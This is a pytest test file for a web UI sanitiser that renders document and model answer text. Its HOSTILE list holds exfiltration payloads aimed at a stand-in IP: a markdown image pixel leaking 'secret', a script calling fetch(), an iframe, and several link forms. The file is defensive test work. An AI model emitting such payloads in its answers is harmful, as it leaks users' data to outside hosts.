"""What the web UI renders of document and model text: formatting, but never anything that
makes the browser fetch or link elsewhere."""

from __future__ import annotations

import re

import pytest

from ui.safe import answer_html, plain

HOSTILE = [
    "![pixel](http://203.0.113.9/p.png?d=secret)",
    '<img src="http://203.0.113.9/i.png">',
    "<script>fetch('http://203.0.113.9/')</script>",
    "[click](http://203.0.113.9/x)",
    "<http://203.0.113.9/auto>",
    "see http://203.0.113.9/bare and www.example.org",
    "[ref][1]\n\n[1]: http://203.0.113.9/r",
    '<iframe src="http://203.0.113.9/f"></iframe>',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_answer_renders_no_image_link_or_html_from_its_text(text: str) -> None:
    rendered = answer_html(f"The leave policy says **25 days**. {text}")
    assert "<strong>25 days</strong>" in rendered  # formatting is kept
    for tag in ("<img", "<a ", "<script", "<iframe"):
        assert tag not in rendered, rendered
    assert not re.search(r"<[^>]*\b(src|href)=", rendered), rendered
    assert "203.0.113.9" in rendered  # shown as the text it is


def test_lists_and_code_keep_their_shape() -> None:
    rendered = answer_html("Steps:\n\n- file the form\n- wait `3` days")
    assert "<li>file the form</li>" in rendered
    assert "<code>3</code>" in rendered


@pytest.mark.parametrize("text", HOSTILE)
def test_a_label_has_no_markdown_or_link_left(text: str) -> None:
    label = plain(f"Policy {text}")
    # every character that could open an image, a link, HTML or code is escaped...
    assert not re.search(r"(?<!\\)[!\[\]()<`]", label.replace("&lt;", "").replace("&gt;", ""))
    # ...and no bare URL or www. literal is left for GFM's autolinking
    assert "://" not in label
    assert "www." not in label
